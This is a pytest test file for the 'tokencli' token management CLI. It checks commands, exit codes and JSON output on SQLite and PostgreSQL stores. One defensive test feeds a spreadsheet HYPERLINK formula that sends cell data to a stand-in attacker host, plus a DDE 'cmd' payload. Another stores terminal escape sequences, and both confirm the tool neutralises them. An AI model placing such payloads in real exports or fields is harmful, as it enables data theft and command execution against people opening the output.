"""Every command through the real Typer app, on each store: a real SQLite file and a
real PostgreSQL schema give the same outputs, exit codes and JSON."""

from __future__ import annotations

import json
import re
import time
from collections.abc import Callable
from pathlib import Path

import pytest
from typer.main import get_command
from typer.testing import CliRunner

from tokencli import __version__
from tokencli.cli.app import app
from tokencli.cli.base import duration_text
from tokencli.domain.durations import parse_duration
from tokencli.domain.errors import ExitStatus
from tokencli.domain.location import Location
from tokencli.service.service import TokenService
from tokencli.store.sqlite.queries import SQLiteStore

from databases import RawDatabase
from support import Clock

pytestmark = pytest.mark.stores("sqlite", "postgres")
NO_DATABASE = pytest.mark.stores("sqlite", reason="no database involved")

ISO = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ")
TOKEN_KEYS = ["id", "label", "created_at", "expires_at", "uses_left", "state", "scopes"]


def issue(runner: CliRunner, *args: str) -> str:
    result = runner.invoke(app, ["issue", *args])
    assert result.exit_code == 0, result.output
    return result.stdout.strip()


MakeService = Callable[..., TokenService]


def past_service(make_service: MakeService, seconds_ago: int) -> TokenService:
    """A service on the same database whose clock runs `seconds_ago` behind (old tokens)."""
    return make_service(Clock(time.time() - seconds_ago))


def all_commands() -> list[str]:
    group = get_command(app)
    return sorted(group.commands)  # type: ignore[attr-defined]


@NO_DATABASE
def test_version(runner: CliRunner) -> None:
    result = runner.invoke(app, ["--version"])
    assert result.exit_code == 0
    assert result.stdout == f"tokencli {__version__}\n"


@NO_DATABASE
def test_no_arguments_shows_help(runner: CliRunner) -> None:
    result = runner.invoke(app, [])
    assert result.exit_code == ExitStatus.USAGE
    assert "issue" in result.output and "purge" in result.output


@NO_DATABASE
@pytest.mark.parametrize("command", all_commands())
def test_every_command_has_help_with_an_example(runner: CliRunner, command: str) -> None:
    result = runner.invoke(app, [command, "--help"])
    assert result.exit_code == 0
    assert "Examples:" in result.stdout
    assert f"tokencli {command}" in result.stdout or command == "serve"


def test_issue_prints_the_token_alone_and_check_accepts_it(runner: CliRunner) -> None:
    token = issue(runner, "--ttl", "15m")
    assert re.fullmatch(r"[a-z2-7]{12}:[A-Za-z0-9_-]{30}", token)
    result = runner.invoke(app, ["check", token])
    assert (result.exit_code, result.stdout) == (0, "valid\n")


def test_issue_count_prints_one_per_line_all_valid(runner: CliRunner) -> None:
    lines = issue(runner, "--count", "25").splitlines()
    assert len(lines) == len(set(lines)) == 25
    for token in lines[::6]:
        assert runner.invoke(app, ["check", "-q", token]).exit_code == 0


def test_issue_json_has_documented_keys(runner: CliRunner) -> None:
    output = issue(runner, "--json", "--count", "2", "--uses", "3", "--label", "ci", "--ttl", "2h")
    objects = [json.loads(line) for line in output.splitlines()]
    assert len(objects) == 2
    for body in objects:
        assert list(body) == [*TOKEN_KEYS, "token"]
        assert body["label"] == "ci"
        assert body["uses_left"] == 3
        assert body["state"] == "valid"
        assert ISO.fullmatch(body["created_at"]) and ISO.fullmatch(body["expires_at"])
        assert body["token"].startswith(body["id"] + ":")


def test_default_ttl_is_sixty_minutes(runner: CliRunner) -> None:
    body = json.loads(issue(runner, "--json"))
    from datetime import datetime

    created = datetime.fromisoformat(body["created_at"].replace("Z", "+00:00"))
    expires = datetime.fromisoformat(body["expires_at"].replace("Z", "+00:00"))
    assert (expires - created).total_seconds() == 3600


@pytest.mark.parametrize(
    ("args", "fragment"),
    [
        (["--ttl", "0"], "TTL must be positive"),
        (["--ttl", "0s"], "TTL must be positive"),
        (["--ttl", "-5m"], "negative"),
        (["--ttl", "15mm"], "not a duration"),
        (["--ttl", "abc"], "not a duration"),
        (["--ttl", "3651d"], "TTL is too large"),
        (["--ttl", "99999999999999999999"], "TTL is too large"),
        (["--uses", "0"], "uses must be a positive"),
        (["--uses", "-1"], "uses must be a positive"),
        (["--uses", "many"], "--uses"),
        (["--count", "0"], "count must be a positive"),
        (["--count", "-4"], "count must be a positive"),
        (["--count", "1000001"], "count is too large"),
        (["--label", "a\x1b[31mred"], "control character"),
        (["--label", "x" * 201], "201 characters"),
        (["--bogus"], "No such option"),
    ],
)
def test_issue_usage_errors_exit_2_and_store_nothing(
    runner: CliRunner, raw: RawDatabase, args: list[str], fragment: str
) -> None:
    result = runner.invoke(app, ["issue", *args])
    assert result.exit_code == ExitStatus.USAGE
    assert fragment in result.stderr
    assert result.stdout == ""
    if raw.exists():
        assert raw.rows("SELECT count(*) FROM tokens") == [(0,)]


def test_check_reads_stdin_when_dash_or_absent(runner: CliRunner) -> None:
    token = issue(runner)
    for args in (["check"], ["check", "-"]):
        result = runner.invoke(app, args, input=token + "\n")
        assert (result.exit_code, result.stdout) == (0, "valid\n")
    empty = runner.invoke(app, ["check"], input="")
    assert (empty.exit_code, empty.stdout) == (ExitStatus.USAGE, "")
    assert empty.stderr == "Error: no token given: pass it as the argument, or on standard input\n"


@pytest.mark.parametrize("given", ["", "   ", "\t\n"])
def test_an_empty_token_argument_is_no_token_given(runner: CliRunner, given: str) -> None:
    result = runner.invoke(app, ["check", given])
    assert (result.exit_code, result.stdout) == (ExitStatus.USAGE, "")
    assert "no token given" in result.stderr


def test_check_skips_blank_lines_before_the_token_on_stdin(runner: CliRunner) -> None:
    token = issue(runner)
    result = runner.invoke(app, ["check"], input=f"\n  \n\t\r\n{token}\n")
    assert (result.exit_code, result.stdout) == (0, "valid\n")
    only_blank = runner.invoke(app, ["check"], input="\n\n\n")
    assert (only_blank.exit_code, only_blank.stdout) == (ExitStatus.USAGE, "")
    assert "no token given" in only_blank.stderr


@pytest.mark.parametrize("space", ["\u00a0", "\u2003", "\u3000", "\u200b", "\ufeff"])
def test_only_ascii_whitespace_around_a_token_is_ignored(runner: CliRunner, space: str) -> None:
    token = issue(runner)
    assert runner.invoke(app, ["check", f" \t{token}\n"]).exit_code == 0
    wrapped = runner.invoke(app, ["check", f"{space}{token}{space}"])
    assert (wrapped.exit_code, wrapped.stdout) == (1, "malformed\n")


def test_check_every_verdict_and_exit_code(runner: CliRunner, make_service: MakeService) -> None:
    valid = issue(runner)
    single = issue(runner, "--uses", "1")
    revoked = issue(runner)
    runner.invoke(app, ["revoke", revoked.split(":")[0]])
    expired = past_service(make_service, 120).issue(ttl_seconds=60).token
    unknown = TokenService(SQLiteStore.empty()).issue().token
    typo = valid[:20] + ("x" if valid[20] != "x" else "y") + valid[21:]
    assert runner.invoke(app, ["check", "-q", single]).exit_code == 0
    expected = {
        valid: ("valid", 0),
        single: ("used_up", 1),
        revoked: ("revoked", 1),
        expired: ("expired", 1),
        unknown: ("unknown", 1),
        typo: ("malformed", 1),
        "garbage": ("malformed", 1),
    }
    for token, (state, code) in expected.items():
        result = runner.invoke(app, ["check", token])
        assert (result.stdout, result.exit_code) == (f"{state}\n", code), token
        body = json.loads(runner.invoke(app, ["check", "--json", token]).stdout)
        assert body["state"] == state  # an expired token stays expired until purge
        assert body["valid"] is (state == "valid")


def test_check_json_includes_info_only_when_known(runner: CliRunner) -> None:
    token = issue(runner, "--label", "x", "--uses", "2")
    body = json.loads(runner.invoke(app, ["check", "--json", token]).stdout)
    assert list(body) == [*TOKEN_KEYS, "valid"]
    assert body["uses_left"] == 1 and body["id"] == token.split(":")[0]
    garbage = runner.invoke(app, ["check", "--json", "nope"])
    assert garbage.exit_code == 1
    assert json.loads(garbage.stdout) == {"valid": False, "state": "malformed"}


def test_check_quiet_prints_nothing(runner: CliRunner) -> None:
    result = runner.invoke(app, ["check", "--quiet", "nope"])
    assert (result.exit_code, result.stdout) == (1, "")


def test_check_on_a_missing_database_creates_nothing(runner: CliRunner, raw: RawDatabase) -> None:
    token = TokenService(SQLiteStore.empty()).issue().token
    for args in (["check", token], ["list"], ["list", "--all", "--json"], ["purge", "--dry-run"]):
        result = runner.invoke(app, args)
        assert result.exit_code in (0, 1), result.output
    assert not raw.exists()


def test_revoke_several_with_one_missing(runner: CliRunner) -> None:
    first, second = issue(runner, "--count", "2").splitlines()
    result = runner.invoke(app, ["revoke", first.split(":")[0], "zzzzzzzzzzzz", second])
    assert result.exit_code == ExitStatus.NOT_VALID
    assert result.stdout.splitlines() == [
        f"revoked {first.split(':')[0]}",
        f"revoked {second.split(':')[0]}",
    ]
    assert "no token zzzzzzzzzzzz" in result.stderr
    assert runner.invoke(app, ["check", first]).stdout == "revoked\n"
    assert runner.invoke(app, ["check", second]).stdout == "revoked\n"
    listed = json.loads(runner.invoke(app, ["list", "--all", "--json"]).stdout)
    assert {item["state"] for item in listed} == {"revoked"}


def test_revoke_needs_an_argument(runner: CliRunner) -> None:
    assert runner.invoke(app, ["revoke"]).exit_code == ExitStatus.USAGE


def test_revoke_by_selector_prints_what_its_dry_run_printed_oldest_first(
    runner: CliRunner,
    make_service: MakeService,
) -> None:
    # Created a second apart, each expiring before the one made before it: the order of
    # creation is neither the order of the IDs nor that of the expiries.
    clock = Clock(time.time() - 100)
    issuing = make_service(clock)
    for n in range(30):
        issuing.issue(ttl_seconds=3600 - 60 * n, label="ci")
        clock.advance(1)
    listed = json.loads(runner.invoke(app, ["list", "--label", "ci", "--json"]).stdout)
    oldest_first = [item["id"] for item in sorted(listed, key=lambda i: (i["created_at"], i["id"]))]
    assert oldest_first != [item["id"] for item in listed]  # list goes by ID
    assert len(oldest_first) == 30
    dry = runner.invoke(app, ["revoke", "--label", "ci", "--dry-run"])
    done = runner.invoke(app, ["revoke", "--label", "ci"])
    assert (dry.exit_code, done.exit_code) == (0, 0)
    assert [line.split()[-1] for line in dry.stdout.splitlines()] == oldest_first
    assert [line.split()[-1] for line in done.stdout.splitlines()] == oldest_first


def test_list_piped_is_plain_tab_separated_and_literal(runner: CliRunner) -> None:
    issue(runner, "--label", "[red]x[/red]")
    issue(runner, "--label", "tab\there".replace("\t", " "))
    result = runner.invoke(app, ["list"])
    assert result.exit_code == 0
    lines = result.stdout.splitlines()
    headers = ["ID", "LABEL", "CREATED", "EXPIRES", "USES LEFT", "STATE", "SCOPES"]
    assert lines[0].split("\t") == headers
    assert sorted(line.split("\t")[1] for line in lines[1:]) == ["[red]x[/red]", "tab here"]
    assert "\x1b" not in result.stdout
    assert all(len(line.split("\t")) == len(headers) for line in lines)


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_tab_separated_text_never_starts_a_spreadsheet_formula(
    runner: CliRunner, raw: RawDatabase, start: str
) -> None:
    label = f'{start}HYPERLINK("http://attacker.invalid/?"&A2,"open")'
    token = issue(runner, "--label", label)
    token_id = token.split(":")[0]
    raw.execute(
        "INSERT INTO audit (at, action, token_id, outcome, source, detail) VALUES "
        "(1, 'import', NULL, 'imported', 'cli', ?)",
        f"{start}cmd|' /C calc'!A0",
    )
    for args in (["list"], ["show", token_id]):
        row = runner.invoke(app, args).stdout.splitlines()[1].split("\t")
        assert row[1] == "'" + label, args
    audit = runner.invoke(app, ["audit"]).stdout
    assert f"\t'{start}cmd|' /C calc'!A0" in audit
    cells = [cell for line in audit.splitlines() for cell in line.split("\t")]
    # "-" alone (no token) is no formula: there is nothing after the sign.
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@")) and cell != "-"]
    # Formats meant for programs carry the label exactly.
    assert json.loads(runner.invoke(app, ["list", "--json"]).stdout)[0]["label"] == label
    assert json.loads(runner.invoke(app, ["export"]).stdout.splitlines()[0])["label"] == label


@NO_DATABASE
def test_every_json_output_is_in_one_style(runner: CliRunner) -> None:
    # One style everywhere: json.dumps' default separators, ASCII only.
    token = issue(runner, "--label", 'caf\u00e9 "q"', "--scope", "deploy")
    token_id = token.split(":")[0]
    exported = runner.invoke(app, ["export", "--audit"]).stdout
    outputs = {
        "issue": ["issue", "--json", "--count", "2"],
        "check": ["check", "--json", token],
        "show": ["show", "--json", token_id],
        "renew": ["renew", "--json", token_id],
        "list": ["list", "--json"],
        "list --jsonl": ["list", "--jsonl"],
        "stats": ["stats", "--json"],
        "audit": ["audit", "--json"],
        "purge": ["purge", "--json"],
        "purge --dry-run": ["purge", "--dry-run", "--json"],
        "export": ["export", "--audit"],
        "rotate": ["rotate", "--json", token_id],
    }
    for name, args in outputs.items():
        result = runner.invoke(app, args)
        assert result.exit_code == 0, (name, result.output)
        lines = result.stdout.splitlines()
        assert lines, name
        for line in lines:
            assert line == json.dumps(json.loads(line)), name
    imported = runner.invoke(app, ["import", "--json", "--skip-existing"], input=exported)
    assert imported.stdout.strip() == json.dumps(json.loads(imported.stdout)), imported.output


@NO_DATABASE
def test_help_writes_each_duration_default_one_way(runner: CliRunner) -> None:
    durations = 0
    for command in ("issue", "renew", "rotate", "purge", "list", "audit", "export"):
        text = " ".join(
            runner.invoke(app, [command, "--help"], env={"COLUMNS": "300"}).stdout.split()
        )
        # A duration default is said once, by [default: ...].
        assert re.search(r"\(default:? [0-9]", text) is None, command
        for default in re.findall(r"\[default: ([0-9]+[a-z][0-9a-z]*)\]", text):
            durations += 1
            assert re.fullmatch(r"[0-9]+[smhdw]", default), (command, default)
            seconds = parse_duration(default)
            assert duration_text(seconds) == default, (command, default)
    assert durations >= 4  # issue and renew --ttl, rotate --grace, purge --audit-retention
    purge_help = " ".join(runner.invoke(app, ["purge", "--help"]).stdout.split())
    assert "[default: 90d]" in purge_help and "12w6d" not in purge_help
    issue_help = " ".join(runner.invoke(app, ["issue", "--help"]).stdout.split())
    assert "[default: 1h]" in issue_help and "At most 3650d" in issue_help


@pytest.mark.stores("sqlite", reason="a path that does not exist")
@pytest.mark.parametrize(
    "args",
    [
        ["list"],
        ["stats"],
        ["audit"],
        ["export"],
        ["show", "aaaaaaaaaaaa"],
        ["purge", "--dry-run"],
        ["revoke", "--all", "--dry-run"],
        ["check", "aaaaaaaaaaaa:" + "A" * 30],
    ],
)
def test_a_read_on_a_database_that_does_not_exist_says_so_and_creates_nothing(
    runner: CliRunner, tmp_path: Path, args: list[str]
) -> None:
    missing = tmp_path / "nonexistent" / "dir" / "x.db"
    result = runner.invoke(app, ["--db", str(missing), *args])
    expected = {"show": 1, "check": 1}.get(args[0], 0)
    assert result.exit_code == expected, result.output
    assert result.stderr.splitlines()[0] == f"Note: no database at {missing} yet; read as empty"
    assert "Traceback" not in result.output
    assert not missing.parent.parent.exists()


def test_labels_with_escapes_stored_elsewhere_display_literally(
    runner: CliRunner, raw: RawDatabase
) -> None:
    issue(runner, "--label", "placeholder")
    raw.execute("UPDATE tokens SET label = ?", "evil\x1b[2J\x07\u202e")
    listed = runner.invoke(app, ["list"]).stdout
    assert "\x1b" not in listed and "\x07" not in listed and "\u202e" not in listed
    assert "evil\\x1b[2J\\x07\\u202e" in listed
    as_json = runner.invoke(app, ["list", "--json"]).stdout
    assert "\x1b" not in as_json
    assert json.loads(as_json)[0]["label"] == "evil\x1b[2J\x07\u202e"


def test_list_all_and_json(runner: CliRunner, make_service: MakeService) -> None:
    live = issue(runner, "--label", "live")
    past_service(make_service, 100).issue(ttl_seconds=10, label="old")
    live_only = json.loads(runner.invoke(app, ["list", "--json"]).stdout)
    assert [item["label"] for item in live_only] == ["live"]
    assert live_only[0]["id"] == live.split(":")[0]
    assert list(live_only[0]) == TOKEN_KEYS
    everything = json.loads(runner.invoke(app, ["list", "--all", "--json"]).stdout)
    assert sorted(item["state"] for item in everything) == ["expired", "valid"]
    assert "token" not in runner.invoke(app, ["list", "--all", "--json"]).stdout.lower().replace(
        '"tokens"', ""
    )


def test_list_never_shows_a_secret(runner: CliRunner) -> None:
    token = issue(runner)
    secret = token.split(":")[1]
    for args in (["list"], ["list", "--all"], ["list", "--json"]):
        assert secret not in runner.invoke(app, args).stdout


def test_purge_reports_and_is_quiet_when_nothing_to_do(
    runner: CliRunner, make_service: MakeService
) -> None:
    issue(runner)
    old = past_service(make_service, 100)
    for _ in range(3):
        old.issue(ttl_seconds=10)
    nothing_yet = runner.invoke(app, ["purge", "--dry-run"])
    assert (nothing_yet.exit_code, nothing_yet.stdout) == (0, "would purge 3 tokens\n")
    dry = json.loads(runner.invoke(app, ["purge", "--dry-run", "--json"]).stdout)
    assert dry == {"purged": 3, "dry_run": True}
    done = runner.invoke(app, ["purge"])
    assert (done.exit_code, done.stdout) == (0, "purged 3 tokens\n")
    again = runner.invoke(app, ["purge"])
    assert (again.exit_code, again.stdout, again.stderr) == (0, "", "")
    assert json.loads(runner.invoke(app, ["purge", "--json"]).stdout) == {
        "purged": 0,
        "dry_run": False,
    }
    assert runner.invoke(app, ["purge", "--quiet"]).stdout == ""
    assert len(json.loads(runner.invoke(app, ["list", "--all", "--json"]).stdout)) == 1


def test_import_refuses_an_event_holding_a_nul_on_both_stores(
    runner: CliRunner, raw: RawDatabase
) -> None:
    event = {
        "type": "event",
        "at": "2026-01-31T12:00:00Z",
        "action": "check",
        "token_id": None,
        "outcome": "valid",
        "source": "cli",
        "detail": "a\x00b",
    }
    lines = json.dumps({**event, "detail": None}) + "\n" + json.dumps(event) + "\n"
    result = runner.invoke(app, ["import"], input=lines)
    assert (result.exit_code, result.stdout) == (ExitStatus.USAGE, "")
    assert "line 2" in result.stderr
    assert not raw.exists() or raw.rows("SELECT count(*) FROM audit") == [(0,)]


def test_db_option_beats_environment(
    runner: CliRunner,
    tmp_path: Path,
    location: Location,
    raw: RawDatabase,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    other = tmp_path / "other.db"
    monkeypatch.setenv("TOKENCLI_DB", str(other))
    where = str(location.url if location.url is not None else location.path)
    result = runner.invoke(app, ["--db", where, "issue"])
    assert result.exit_code == 0
    assert not other.exists()
    assert raw.rows("SELECT count(*) FROM tokens") == [(1,)]


def test_storage_errors_exit_3_with_one_line(runner: CliRunner, raw: RawDatabase) -> None:
    refusal = raw.make_foreign()  # a file, or a schema, holding someone else's data
    for args in (["issue"], ["check", "x"], ["list"], ["purge"], ["revoke", "aaaaaaaaaaaa"]):
        result = runner.invoke(app, args)
        assert result.exit_code == ExitStatus.STORAGE, args
        assert result.stderr.count("\n") == 1
        assert "Traceback" not in result.output
        assert refusal in result.stderr
        assert result.stdout == ""


@pytest.mark.stores("sqlite", reason="a folder where the SQLite file should be")
def test_a_folder_as_database_exits_3(runner: CliRunner, tmp_path: Path) -> None:
    folder = runner.invoke(app, ["--db", str(tmp_path), "list"])
    assert folder.exit_code == ExitStatus.STORAGE
    assert "is a folder" in folder.stderr


def test_locked_database_past_the_timeout_exits_3(
    runner: CliRunner, raw: RawDatabase, monkeypatch: pytest.MonkeyPatch
) -> None:
    issue(runner)
    with raw.hold_write_lock(monkeypatch):
        result = runner.invoke(app, ["issue"])
        reading = runner.invoke(app, ["list", "--json"])
    assert (reading.exit_code, len(json.loads(reading.stdout))) == (0, 1)  # reads go on
    assert result.exit_code == ExitStatus.STORAGE
    assert "locked" in result.stderr
    assert result.stdout == ""


@NO_DATABASE
@pytest.mark.parametrize(
    ("argv", "expected"),
    [
        (["check", "x"], "check"),
        (["--db", "/tmp/x.db", "list", "--all"], "list"),
        (["--db=/tmp/x.db", "purge"], "purge"),
        (["--help"], None),
        (["--version"], None),
        ([], None),
        (["--db"], None),
    ],
)
def test_the_command_on_the_line_is_found(argv: list[str], expected: str | None) -> None:
    from tokencli.cli.base import _command_named

    assert _command_named(argv) == expected


@NO_DATABASE
def test_trimmed_app_runs_only_the_named_command(monkeypatch: pytest.MonkeyPatch) -> None:
    from tokencli.cli.base import _command_named, load_commands

    trimmed = load_commands(_command_named(["list"]))
    assert [info.callback.__name__ for info in trimmed.registered_commands] == ["list_tokens"]
    assert load_commands(_command_named(["nonsense"])) is app
    assert load_commands(_command_named(["--help"])) is app
    monkeypatch.setenv("_TOKENCLI_COMPLETE", "complete_bash")
    assert load_commands(_command_named(["revoke"])) is app
